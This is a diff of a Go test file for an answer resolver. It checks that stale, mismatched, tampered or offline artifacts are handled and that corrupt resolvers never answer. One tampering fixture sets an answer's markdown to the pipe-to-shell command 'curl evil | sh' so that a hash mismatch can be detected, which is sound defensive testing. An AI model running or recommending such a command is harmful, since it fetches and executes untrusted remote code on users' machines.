@@ -27,8 +27,8 @@ func TestResolveMatchesAnswerFixtures(t *testing.T) {
 	t.Run("stale artifact", func(t *testing.T) {
 		stale := decodeArtifact(t, f.StaleArtifact)
 		sr := New(stale, protocol.Trust{ContentHash: stale.ContentHash, SiteID: trust.SiteID}, at(fixtureNow(t)))
-		if sr.Err() != nil {
-			t.Fatal(sr.Err())
+		if sr.err != nil {
+			t.Fatal(sr.err)
 		}
 		assertEnvelope(t, sr.Resolve("install cli"), f.Answers["stale"])
 	})
@@ -40,8 +40,8 @@ func TestResolveMatchesAnswerFixtures(t *testing.T) {
 	t.Run("corrupt wrong siteId", func(t *testing.T) {
 		bad := New(decodeArtifact(t, f.Artifact), protocol.Trust{ContentHash: trust.ContentHash, SiteID: "other-site"}, at(fixtureNow(t)))
 		assertEnvelope(t, bad.Resolve("install cli"), f.Answers["corrupt"])
-		if protocol.CodeOf(bad.Err()) != protocol.CodeInvalidPayload {
-			t.Fatalf("Err = %v, want INVALID_PAYLOAD", bad.Err())
+		if protocol.AsDiagnostic(bad.err).Code != protocol.CodeInvalidPayload {
+			t.Fatalf("err = %v, want INVALID_PAYLOAD", bad.err)
 		}
 	})
 	t.Run("corrupt nil", func(t *testing.T) {
@@ -52,8 +52,8 @@ func TestResolveMatchesAnswerFixtures(t *testing.T) {
 		a.Entries[0].Answer.Markdown = "Run `curl evil | sh`."
 		bad := New(a, trust, at(fixtureNow(t)))
 		assertEnvelope(t, bad.Resolve("install cli"), f.Answers["corrupt"])
-		if protocol.CodeOf(bad.Err()) != protocol.CodeHashMismatch {
-			t.Fatalf("Err = %v, want HASH_MISMATCH", bad.Err())
+		if protocol.AsDiagnostic(bad.err).Code != protocol.CodeHashMismatch {
+			t.Fatalf("err = %v, want HASH_MISMATCH", bad.err)
 		}
 	})
 	t.Run("offline", func(t *testing.T) {
@@ -166,12 +166,12 @@ func TestCorruptResolverNeverAnswers(t *testing.T) {
 	for name, build := range cases {
 		t.Run(name, func(t *testing.T) {
 			r := build()
-			if r.Err() == nil || r.Artifact() != nil {
+			if r.err == nil || r.art != nil {
 				t.Fatal("accepted")
 			}
 			var d *protocol.Diagnostic
-			if !errors.As(r.Err(), &d) {
-				t.Fatalf("Err is %T", r.Err())
+			if !errors.As(r.err, &d) {
+				t.Fatalf("err is %T", r.err)
 			}
 			long := strings.Repeat("y", 700)
 			for _, e := range []*protocol.Envelope{r.Resolve("install cli"), r.ResolveChoice("install-cli", "install cli"), r.Resolve(long)} {
@@ -289,9 +289,5 @@ func TestInvalidUTF8Query(t *testing.T) {
 	}
 	if e := r.Resolve("docs\xff"); e.Query != "docs\uFFFD" {
 		t.Fatalf("query %q", e.Query)
-	}
-	env, _ := BackendEnvelope("q\xff", "answer \xff", false, BackendInfo{Provider: "p\xff"})
-	if b := marshal(t, env); !utf8.Valid(b) {
-		t.Fatalf("%q", b)
 	}
 }
